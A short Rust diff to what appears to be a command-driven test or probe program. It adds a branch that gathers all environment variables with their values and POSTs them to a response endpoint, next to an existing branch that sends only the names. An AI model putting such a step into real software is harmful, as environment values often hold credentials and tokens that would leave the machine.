@@ -51,6 +51,9 @@ fn main() {
         } else if wants("environment") {
             let variables: Vec<_> = std::env::vars().map(|(name, _)| format!("{name:?}")).collect();
             call("POST", &response, &format!("[{}]", variables.join(",")));
+        } else if wants("variables") {
+            let variables: Vec<_> = std::env::vars().map(|(name, value)| format!("{name:?}:{value:?}")).collect();
+            call("POST", &response, &format!("{{{}}}", variables.join(",")));
         } else {
             if wants("sleep") {
                 std::thread::sleep(Duration::from_millis(300));
